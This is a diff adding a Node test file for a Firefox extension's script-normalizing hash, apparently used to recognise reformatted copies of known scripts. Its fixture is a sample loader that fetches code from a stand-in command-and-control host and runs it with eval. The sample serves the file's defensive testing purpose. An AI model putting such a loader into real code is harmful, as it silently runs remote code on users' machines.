@@ -0,0 +1,42 @@
+// NormalizedHash canonical form (from firefox-extension/):  node --test test/*.test.js
+const test = require('node:test');
+const assert = require('node:assert/strict');
+const NormalizedHash = require('../utils/normalized-hash.js');
+
+const SCRIPT = `
+  // loader
+  var target = 'https://c2.example.invalid/p';
+  function load(url, done) {
+    var xhr = new XMLHttpRequest();
+    xhr.onload = function () { done(eval(xhr.responseText)); };
+    xhr.open("GET", url);
+    xhr.send();
+  }
+  load(target, function (result) { document.title = result; });
+`;
+
+test('formatting, comments, quote style and local names do not change the hash', async () => {
+  const expected = await NormalizedHash.calculate(SCRIPT);
+  assert.match(expected, /^[a-f0-9]{64}$/);
+  const reformatted = SCRIPT.replace(/"/g, "'").replace('// loader', '/* loader */').replace(/\n\s*/g, '\r\n\t').replace(/;/g, '');
+  assert.equal(await NormalizedHash.calculate(reformatted), expected);
+  assert.equal(await NormalizedHash.calculate(reformatted.replace(/\bdone\b/g, 'cb')), expected);
+});
+
+test('only locally bound names are renamed', () => {
+  const canonical = NormalizedHash.canonicalize(SCRIPT);
+  for (const kept of ['eval', 'document', 'XMLHttpRequest', '. responseText', '. title']) assert.ok(canonical.includes(kept), kept);
+  for (const renamed of ['target', 'load', 'xhr', 'url', 'done', 'result']) assert.ok(!new RegExp(`\\b${renamed}\\b`).test(canonical), renamed);
+
+  const renamedLocals = SCRIPT.replace(/\btarget\b/g, 'u').replace(/\bload\b/g, 'ld').replace(/\bxhr\b/g, 'r');
+  assert.equal(NormalizedHash.canonicalize(renamedLocals), canonical);
+  // A different global is a different script
+  assert.notEqual(NormalizedHash.canonicalize(SCRIPT.replace('eval(', 'alert(')), canonical);
+  assert.notEqual(NormalizedHash.canonicalize(SCRIPT, { renameIdentifiers: false }), canonical);
+});
+
+test('short or untokenizable scripts have no normalized hash', async () => {
+  assert.equal(await NormalizedHash.calculate('var a = 1;'), null);
+  assert.equal(await NormalizedHash.calculate('var s = "unterminated'), null);
+  assert.equal(await NormalizedHash.calculate(null), null);
+});